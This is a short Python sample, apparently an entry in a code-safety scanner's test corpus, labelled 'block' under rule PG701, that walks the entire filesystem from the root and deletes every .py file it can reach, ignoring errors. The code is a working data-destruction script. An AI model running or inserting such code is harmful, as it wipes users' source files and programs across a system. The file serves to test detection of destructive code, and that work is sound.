# pyguard-corpus: verdict=block category=filesystem rules=PG701
# what: walks the whole filesystem from / and deletes every .py file it can
import os

for root, _dirs, files in os.walk("/"):
    for name in files:
        if name.endswith(".py"):
            try:
                os.unlink(os.path.join(root, name))
            except OSError:
                continue
